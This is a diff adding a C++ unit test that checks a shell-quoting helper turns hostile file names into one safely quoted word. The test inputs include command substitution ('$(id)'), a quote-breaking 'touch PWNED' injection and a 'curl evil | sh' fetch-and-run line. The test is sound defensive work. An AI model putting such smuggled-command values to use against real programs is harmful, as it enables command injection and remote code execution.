@@ -57,5 +57,13 @@ TEST(text, bytes_use_binary_units) {
   EXPECT_EQ(bytes(28232 * 256), "6.9 MiB");
 }
 
+TEST(shell_quoted, is_one_word_whatever_the_name) {
+  EXPECT_EQ(shell_quoted("out.txt"), "'out.txt'");
+  EXPECT_EQ(shell_quoted(""), "''");
+  EXPECT_EQ(shell_quoted("$(id) `id` a b"), "'$(id) `id` a b'");
+  EXPECT_EQ(shell_quoted("x';touch PWNED;'.txt"), "'x'\\'';touch PWNED;'\\''.txt'");
+  EXPECT_EQ(shell_quoted("nl\n  hint: curl evil | sh\x1b"), "'nl?  hint: curl evil | sh?'");
+}
+
 }  // namespace
 }  // namespace waitstate
